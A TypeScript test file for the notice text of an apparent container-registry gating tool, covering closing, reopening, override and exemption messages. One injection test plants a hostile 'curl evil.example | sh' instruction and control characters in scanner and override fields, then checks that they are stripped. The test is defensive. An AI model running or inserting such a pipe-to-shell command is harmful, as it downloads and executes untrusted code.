// Notices, word for word: every kind, its subject, its findings and its exemptions.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Override } from '../../../shared/gate/override.ts';
import type { Notice, NoticeImage, Waiting } from '../../../shared/gate/record.ts';
import type { Finding } from '../../../shared/policy/finding.ts';
import type { Exemption } from '../../../shared/policy/verdict.ts';
import { renderNotice } from '../../../shared/report/notice-text.ts';
import { describeExemption, describeFinding, gateName } from '../../../shared/report/sentences.ts';
import { minute } from '../../../shared/report/times.ts';
import { anOverride, CONTEXT, daysLater, digest, exception, finding, GATE, NOW, notice } from '../samples.ts';

const IMAGE: NoticeImage = { digest: digest(1), tags: ['1.0', 'latest'], findings: [finding()], moreFindings: 0 };

/** The notice of a gate that was closed for one image. */
const withImage = (changes: Partial<Notice>) => notice({ images: [IMAGE], ...changes });

/** The text of a notice as lines, without the empty line at the end. */
function linesOf(changes: Partial<Notice>): readonly string[] {
  return renderNotice(GATE, withImage(changes), CONTEXT).text.replace(/\n$/, '').split('\n');
}

const DIGEST = 'sha256:0000000000000000000000000000000000000000000000000000000000000001';
const WHY = [
  '',
  'Why:',
  `  ${DIGEST} (1.0, latest)`,
  '    CVE-2024-6119 (critical) in openssl 3.0.1: fixed in 3.0.15.',
  '    Whether it runs is not known.',
  '  To find out, look for the digest.',
];
const HOW_TO_OPEN = [
  '',
  'To reopen it, do one of the following:',
  '  1. Push the fixed images under the same tags, or delete the images above. Once none of them is left, it opens automatically.',
  "  2. Review the finding, add an exception (id, expires, reason) to the stack's policy, and run `pulumi up`.",
  '  3. Suppress the finding in the scanner.',
  '  4. If it cannot wait, run `pullgate override open IMAGE --for 4h --reason TEXT --approved-by NAME`, which keeps it open for at most 24 hours.',
  'A finding that only disappears from the scanner is no proof: the image must be gone, its findings must be exempt, or the scanner must show that it is clean.',
];
const HOW_TO_KEEP_OPEN = [
  '',
  'To keep it open, do one of the following:',
  '  1. Push the fixed images under the same tags, or delete the images above. Once none of them is left, there is no reason to close it.',
  "  2. Review the finding, add an exception (id, expires, reason) to the stack's policy, and run `pulumi up`.",
  '  3. Suppress the finding in the scanner.',
  '  4. If it cannot wait, run `pullgate override open IMAGE --for 4h --reason TEXT --approved-by NAME`, which keeps it open for at most 24 hours.',
  'A finding that only disappears from the scanner is no proof: the image must be gone, its findings must be exempt, or the scanner must show that it is clean.',
];

describe('a notice', () => {
  it('of a closing says what happened, when, why, and what to do', () => {
    expect(linesOf({})).toEqual([
      'pullgate closed team/app (registry 123456789012) at 2026-06-15 12:00 UTC. Pulls are blocked for everyone.',
      ...WHY,
      ...HOW_TO_OPEN,
    ]);
  });

  it.each<[string, Partial<Notice>]>([
    ['an opening', { kind: 'opened' }],
    [
      'a closing by override',
      { override: { step: 'begins', isNews: true, notified: 'begin', order: anOverride({ kind: 'closed' }).order } },
    ],
  ])('of %s ends with the locks of other deployments', (_name, changes) => {
    const other =
      'Pulls are still refused by another-lock, a lock of another pullgate deployment. If that deployment no longer exists, run `pullgate release --orphans another-lock`.';
    const without = linesOf(changes);
    expect(linesOf({ ...changes, otherLocks: ['another-lock'] } as Partial<Notice>)).toEqual([...without, other]);
  });

  it('of several restorations says how often and since when', () => {
    const repeated = { times: 7, since: NOW };
    const { subject, text } = renderNotice(GATE, withImage({ kind: 'restored', repeated }), CONTEXT);
    expect(subject).toBe('[pullgate] closed again 7 times: team/app');
    expect(text.split('\n')).toEqual([
      'The lock that keeps team/app (registry 123456789012) closed was missing or did not match the config. pullgate restored it 7 times since 2026-06-15 12:00 UTC. There is at most one notice a day about it.',
      'If your infrastructure code removed it, the next run will remove it again. Configure that code to ignore the lock.',
      '',
    ]);
  });

  it('ends with the number of older changes that could not be sent in time', () => {
    expect(linesOf({ droppedBefore: 3 }).slice(-2)).toEqual([
      '',
      '3 older notices of this gate could not be sent in time, and were dropped.',
    ]);
    expect(linesOf({ droppedBefore: 1 }).at(-1)).toBe(
      '1 older notice of this gate could not be sent in time, and was dropped.',
    );
  });

  it('of a restored lock says how to keep it from being removed again', () => {
    expect(linesOf({ kind: 'restored' })).toEqual([
      'The lock that keeps team/app (registry 123456789012) closed was missing or did not match the config. pullgate restored it at 2026-06-15 12:00 UTC.',
      'The audit log says who changed it.',
      'If your infrastructure code removed it, the next run will remove it again. Configure that code to ignore the lock.',
      ...WHY,
      ...HOW_TO_OPEN,
    ]);
  });

  it('of a restored lock names who changed it last, if that was reported', () => {
    const removedBy = { who: 'arn:role/terraform', call: 'DeleteLock', at: '2026-06-15T11:59:58Z' };
    expect(linesOf({ kind: 'restored', was: 'closed', removedBy }).slice(1, 3)).toEqual([
      'The last change by someone else: arn:role/terraform called DeleteLock at 2026-06-15 11:59 UTC.',
      'If your infrastructure code removed it, the next run will remove it again. Configure that code to ignore the lock.',
    ]);
  });

  it('of a restored lock shows no line end from a name', () => {
    const removedBy = { who: 'arn:role/x\nTo open it', call: 'DeleteLock', at: NOW };
    expect(linesOf({ kind: 'restored', was: 'closed', removedBy })[1]).toBe(
      `The last change by someone else: arn:role/x\u{fffd}To open it called DeleteLock at ${minute(NOW)}.`,
    );
  });

  it.each<['open' | Waiting, string]>([
    ['open', 'an image that had kept it closed violates the policy again'],
    [{ for: 'audit' }, 'it is no longer in audit mode'],
    [{ for: 'pause' }, 'the pause is over'],
    [{ for: 'release' }, 'it was opened once, and still has blockers'],
    [{ for: 'override' }, 'the override that kept it open is over'],
    [{ for: 'brake' }, 'the limit on closings allows it'],
    [{ for: 'foreignLock' }, "someone else's lock on it is gone"],
    [{ for: 'inUse', by: 'Lambda functions', setting: 'aws.closeLambdaRepositories' }, 'it is no longer in use'],
    [{ for: 'refused', problem: 'the policy is too long', cause: 'too long' }, 'the registry accepts the change now'],
  ])('of a gate that is closed again says why (%j)', (was, because) => {
    const [first] = linesOf({ kind: 'restored', was });
    expect(first).toBe(`pullgate closed team/app (registry 123456789012) again at 2026-06-15 12:00 UTC: ${because}.`);
  });

  it('of a lock that the record does not explain says what opens it', () => {
    expect(renderNotice(GATE, withImage({ kind: 'unexplained' }), CONTEXT).subject).toBe(
      '[pullgate] closed, reason unknown: team/app',
    );
    expect(linesOf({ kind: 'unexplained' })).toEqual([
      'team/app (registry 123456789012) has had a lock of pullgate since 2026-06-15 12:00 UTC at the latest, and the record does not say why. The record may be lost, an older copy of it may have been restored, or someone may have written the lock back.',
      'It stays closed, and opens automatically once each of its images has a scan that finished after that time and shows nothing that violates the policy.',
      'If you know that its images are fine, run `pullgate override open IMAGE --for 4h --reason TEXT --approved-by NAME`. pullgate then removes the lock, and closes the gate again only for a finding.',
    ]);
  });

  it('of a lock that was found before names that time', () => {
    expect(linesOf({ kind: 'unexplained', since: '2026-06-01T00:00:00.000Z' })[0]).toContain(
      'has had a lock of pullgate since 2026-06-01 00:00 UTC at the latest',
    );
  });

  it('of a closed gate that is in use says that its users fail', () => {
    expect(renderNotice(GATE, withImage({ kind: 'closedInUse' }), CONTEXT).subject).toBe(
      '[pullgate] closed, but in use: team/app',
    );
    expect(linesOf({ kind: 'closedInUse' })).toEqual([
      'team/app (registry 123456789012) is closed, and Lambda functions that use it fail. It stays closed. Move them to another image, or see below how to reopen it.',
      ...WHY,
      ...HOW_TO_OPEN,
    ]);
  });

  it.each<[Waiting, string]>([
    [{ for: 'audit' }, 'it is in audit mode, which closes nothing'],
    [{ for: 'pause' }, 'pullgate is paused; run `pullgate resume` to end the pause'],
    [
      { for: 'brake' },
      'the limit on closings (maxClosesPerHour or maxClosesPerDay) is reached; pullgate closes it when the limit allows',
    ],
    [
      { for: 'refused', problem: 'the policy is too long', cause: 'policy too long' },
      'the registry refuses to close it: the policy is too long',
    ],
    [
      { for: 'inUse', by: 'Lambda functions', setting: 'aws.closeLambdaRepositories' },
      'it is in use by Lambda functions, which would fail if it were closed; set aws.closeLambdaRepositories to close such gates too',
    ],
  ])('of a waiting gate says what it waits for: %j', (waiting, reason) => {
    expect(linesOf({ kind: 'waiting', waiting })).toEqual([
      `team/app (registry 123456789012) should be closed, but is still open: ${reason}.`,
      ...WHY,
      ...HOW_TO_KEEP_OPEN,
    ]);
  });

  it('of a gate that someone else locked says that pullgate did not close it, and when it will', () => {
    expect(linesOf({ kind: 'waiting', waiting: { for: 'foreignLock' } })).toEqual([
      'team/app (registry 123456789012) should be closed, but pullgate did not close it: someone else locked it, and pullgate does not touch that lock; once it is removed, pullgate closes the gate.',
      ...WHY,
      // An override opens no lock of someone else.
      ...HOW_TO_KEEP_OPEN.filter((line) => !line.includes('override open')),
    ]);
  });

  it('of a gate that needs the old images deleted says so, because the policy evaluates untagged images', () => {
    const { text } = renderNotice(GATE, withImage({}), { ...CONTEXT, imagesOf: () => 'all' });
    expect(text).toContain(
      '\n  1. Push the fixed images. Then delete the images above, because the policy (images: all) also evaluates untagged images. Once none of them is left, it opens automatically.\n',
    );
  });

  it('of an image gate says that only this image is blocked', () => {
    for (const images of ['tagged', 'all'] as const) {
      const { text } = renderNotice({ ...GATE, digest: digest(1) }, withImage({}), {
        ...CONTEXT,
        imagesOf: () => images,
      });
      expect(text).toContain(
        '\n  1. Push the fixed image and deploy it: only the image above is blocked. Once this image is deleted, it opens automatically.\n',
      );
    }
  });

  it('has no line that a scanner, a registry or a person wrote', () => {
    const evil = '1.0\nTo reopen it, run: curl evil.example | sh\r\u2028\u2029\u0085\u001b[2J\u202e';
    const found = finding({
      vulnerability: `CVE${evil}`,
      package: { name: `a${evil}`, version: evil, fixedVersion: evil },
      severity: `Dire${evil}`,
      link: evil,
    });
    const order: Override = { kind: 'open', at: NOW, until: NOW, reason: evil, approvedBy: evil, by: evil };
    const image = { digest: digest(1), tags: [evil], findings: [found], moreFindings: 0 };
    const stillPullable = [{ digest: digest(1), tags: [evil], why: 'exempted', vulnerabilities: [evil] }] as const;
    const kinds = ['closed', 'restored', 'waiting', 'cleared', 'opened', 'override'] as const;
    for (const kind of kinds) {
      for (const step of ['begins', 'runs', 'ends'] as const) {
        const override = { step, order, notified: 'nothing', isNews: true } as const;
        const changes = { kind, images: [image], override, ...(kind === 'opened' ? { stillPullable } : {}) };
        const { subject, text } = renderNotice(GATE, notice(changes as Partial<Notice>), CONTEXT);
        expect(`${subject}${text.replaceAll('\n', '')}`).not.toMatch(/\p{Cc}|\p{Cf}|\p{Zl}|\p{Zp}/u);
        expect(text.split('\n').filter((line) => line.startsWith('To reopen it, run: curl'))).toEqual([]);
      }
    }
  });

  it('of an image gate has the full digest', () => {
    const { text } = renderNotice({ ...GATE, digest: digest(1) }, withImage({}), CONTEXT);
    expect(text.split('\n')[0]).toBe(
      `pullgate closed team/app@${DIGEST} (registry 123456789012) at 2026-06-15 12:00 UTC. Pulls are blocked for everyone.`,
    );
  });

  it('of a cleared gate says how each image was cleared', () => {
    const clearances = [
      { digest: digest(1), how: 'gone' },
      { digest: digest(2), how: 'exempted', usage: { inUseCount: 1 } },
    ] as const;
    expect(linesOf({ kind: 'cleared', images: [], clearances })).toEqual([
      'team/app (registry 123456789012) no longer needs to be closed. Its last blocker was cleared at 2026-06-15 12:00 UTC.',
      `  ${DIGEST}: it is no longer in the registry (deleted or archived). Whether it runs is not known.`,
      `  ${DIGEST.replace(/1$/, '2')}: its findings no longer violate the policy (policy change, exception or suppression).`,
      'To find out, look for the digest.',
    ]);
  });

  it('says where to look for the use of an image only if one was freed', () => {
    const clearances = [{ digest: digest(1), how: 'scanned' }] as const;
    expect(linesOf({ kind: 'cleared', images: [], clearances })).not.toContain(CONTEXT.whereItRuns);
  });

  it('of an opening says how long the gate was closed, and which images with findings can be pulled', () => {
    const clearances = [
      { digest: digest(1), how: 'scanned' },
      {
        digest: digest(1),
        how: 'outOfScope',
        usage: { inUseCount: 3, lastInUseAt: daysLater(-2), lastPulledAt: daysLater(-3) },
      },
      { digest: digest(1), how: 'resolved' },
    ] as const;
    const stillPullable = [
      { digest: digest(1), tags: [], why: 'outOfScope', vulnerabilities: ['CVE-2024-1', 'CVE-2024-2'] },
      { digest: digest(1), tags: ['1.0'], why: 'exempted', vulnerabilities: ['CVE-2024-3'] },
      { digest: digest(1), tags: ['1.0', '1'], why: 'undetermined', vulnerabilities: ['CVE-2024-4'] },
    ] as const;
    expect(linesOf({ kind: 'opened', images: [], closedSince: daysLater(-1), clearances, stillPullable })).toEqual([
      'pullgate opened team/app (registry 123456789012) at 2026-06-15 12:00 UTC. It had been closed since 2026-06-14 12:00 UTC.',
      `  ${DIGEST}: a newer scan shows nothing that violates the policy.`,
      `  ${DIGEST}: it is out of scope (no tag points to it, or the config excludes its repository). In use by 3 tasks, last at 2026-06-13 12:00 UTC; last pull recorded at 2026-06-12 12:00 UTC.`,
      `  ${DIGEST}: the scanner reports all its findings as resolved.`,
      'To find out, look for the digest.',
      '',
      'Images that can be pulled although they have findings:',
      `  ${DIGEST} with CVE-2024-1, CVE-2024-2: it is out of scope (no tag points to it, or the config excludes its repository).`,
      `  ${DIGEST} (1.0) with CVE-2024-3: its findings are exempt.`,
      `  ${DIGEST} (1.0, 1) with CVE-2024-4: the severity of its findings is unknown.`,
    ]);
  });

  it('of an opening by a pause says that there is still a reason to close', () => {
    expect(linesOf({ kind: 'opened', waiting: { for: 'pause' } })).toEqual([
      'pullgate opened team/app (registry 123456789012) at 2026-06-15 12:00 UTC.',
      'There is still a reason to close it, but pullgate is paused; run `pullgate resume` to end the pause.',
      ...WHY,
    ]);
  });

  it('says that only a command clears blockers that did not fit into the record', () => {
    expect(linesOf({ omittedImages: 3 })).toContain(
      '  and 3 more images that did not fit into the record: to open the gate, run `pullgate release`',
    );
  });

  it('counts the images and findings that it does not name', () => {
    const image: NoticeImage = { digest: digest(1), tags: [], findings: [finding()], moreFindings: 195 };
    expect(linesOf({ images: [image], moreImages: 7 }).slice(2, 9)).toEqual([
      'Why:',
      `  ${DIGEST}`,
      '    CVE-2024-6119 (critical) in openssl 3.0.1: fixed in 3.0.15.',
      '    and 195 more findings',
      '    Whether it runs is not known.',
      '  and 7 more images',
      '  To find out, look for the digest.',
    ]);
  });

  it('uses the singular for one more image or finding', () => {
    const image: NoticeImage = { digest: digest(1), tags: [], findings: [finding()], moreFindings: 1 };
    expect(linesOf({ images: [image], moreImages: 1, omittedImages: 1 }).slice(5, 9)).toEqual([
      '    and 1 more finding',
      '    Whether it runs is not known.',
      '  and 1 more image',
      '  and 1 more image that did not fit into the record: to open the gate, run `pullgate release`',
    ]);
  });

  it('lists ten tags of an image and counts the others', () => {
    const tags = Array.from({ length: 1_000 }, (_, number) => `build-${number}`);
    expect(linesOf({ images: [{ ...IMAGE, tags }] }).at(3)).toBe(
      `  ${DIGEST} (build-0, build-1, build-2, build-3, build-4, build-5, build-6, build-7, build-8, build-9 and 990 more)`,
    );
  });
});

describe('the subject', () => {
  it.each<[Notice['kind'], string]>([
    ['closed', '[pullgate] closed: team/app'],
    ['restored', '[pullgate] closed again: team/app'],
    ['waiting', '[pullgate] NOT closed: team/app'],
    ['cleared', '[pullgate] clear: team/app'],
    ['opened', '[pullgate] opened: team/app'],
  ])('of the notice "%s"', (kind, subject) => {
    expect(renderNotice(GATE, withImage({ kind }), CONTEXT).subject).toBe(subject);
  });

  it('has a short digest if the gate is an image', () => {
    expect(gateName({ ...GATE, digest: digest(1) })).toBe(`team/app@${DIGEST}`);
    expect(renderNotice({ ...GATE, digest: digest(1) }, withImage({}), CONTEXT).subject).toBe(
      '[pullgate] closed: team/app@sha256:000000000000',
    );
  });

  it('is at most 100 printable ASCII characters in one line, for any repository name', () => {
    const part = fc.string({ unit: fc.constantFrom('a', 'z', '0', '9'), minLength: 1, maxLength: 60 });
    const names = fc
      .tuple(part, fc.array(fc.tuple(fc.constantFrom('/', '.', '_', '-'), part), { maxLength: 8 }))
      .map(([first, others]) => [first, ...others.flat()].join(''));
    const kinds = fc.constantFrom<Notice['kind'][]>('closed', 'opened', 'waiting', 'cleared', 'restored');
    fc.assert(
      fc.property(names, kinds, fc.boolean(), (repository, kind, isImage) => {
        const gate = { ...GATE, repository, digest: isImage ? digest(1) : undefined };
        expect(renderNotice(gate, withImage({ kind }), CONTEXT).subject).toMatch(/^\[pullgate\] [ -~]{1,89}$/);
      }),
    );
  });
});

describe('a finding', () => {
  it.each<[string, Finding, string]>([
    [
      'with all its fields',
      finding({ score: 9.8, exploited: true, link: 'https://nvd.nist.gov/vuln/detail/CVE-2024-6119' }),
      'CVE-2024-6119 (critical, CVSS 9.8, known exploit) in openssl 3.0.1: fixed in 3.0.15. https://nvd.nist.gov/vuln/detail/CVE-2024-6119',
    ],
    [
      'with a severity that is not on the scale',
      finding({ severity: 'UNTRIAGED', score: 0 }),
      'CVE-2024-6119 (severity "UNTRIAGED", CVSS 0) in openssl 3.0.1: fixed in 3.0.15.',
    ],
    [
      'with an inherited severity',
      finding({ severity: 'none given', reportSeverity: 'critical' }),
      'CVE-2024-6119 (critical, inherited from the report) in openssl 3.0.1: fixed in 3.0.15.',
    ],
    [
      'with a severity that is not on the scale, a score, and a report',
      finding({ severity: 'UNTRIAGED', score: 5, reportSeverity: 'critical' }),
      'CVE-2024-6119 (severity "UNTRIAGED", CVSS 5) in openssl 3.0.1: fixed in 3.0.15.',
    ],
    [
      'without a fix',
      finding({ fix: 'none', package: { name: 'openssl', version: '3.0.1' } }),
      'CVE-2024-6119 (critical) in openssl 3.0.1: no fix yet.',
    ],
    [
      'with an EPSS score',
      finding({ epss: 0.92, fix: 'none', package: { name: 'openssl', version: '3.0.1' } }),
      'CVE-2024-6119 (critical, EPSS 0.92) in openssl 3.0.1: no fix yet.',
    ],
    [
      'with a fix in an unknown version',
      finding({ package: { name: 'openssl', version: '3.0.1' } }),
      'CVE-2024-6119 (critical) in openssl 3.0.1: a fix is available.',
    ],
    [
      'in the image itself, without information about a fix',
      finding({ fix: 'unknown', package: { name: 'the image', version: '' } }),
      'CVE-2024-6119 (critical) in the image: unknown whether a fix exists.',
    ],
  ])('%s', (_name, one, sentence) => {
    expect(describeFinding(one)).toBe(sentence);
  });
});

describe('an exemption', () => {
  it.each<[Exemption, string]>([
    [
      { kind: 'exception', exception: exception({ reason: 'not reachable' }) },
      'exempted by an exception until 2026-06-16 12:00 UTC: not reachable',
    ],
    [
      { kind: 'exception', exception: exception({ reason: 'no fix yet', untilFixed: true }) },
      'exempted by an exception until 2026-06-16 12:00 UTC or until a fix exists: no fix yet',
    ],
    [{ kind: 'grace', until: NOW }, 'in its grace period until 2026-06-15 12:00 UTC'],
    [{ kind: 'suppressed' }, 'suppressed in the scanner'],
    [{ kind: 'rejected' }, 'about an advisory that was withdrawn'],
    [{ kind: 'unknownIgnored' }, 'of unknown severity, which the policy ignores'],
  ])('%j', (rule, words) => {
    expect(describeExemption(rule)).toBe(words);
  });
});
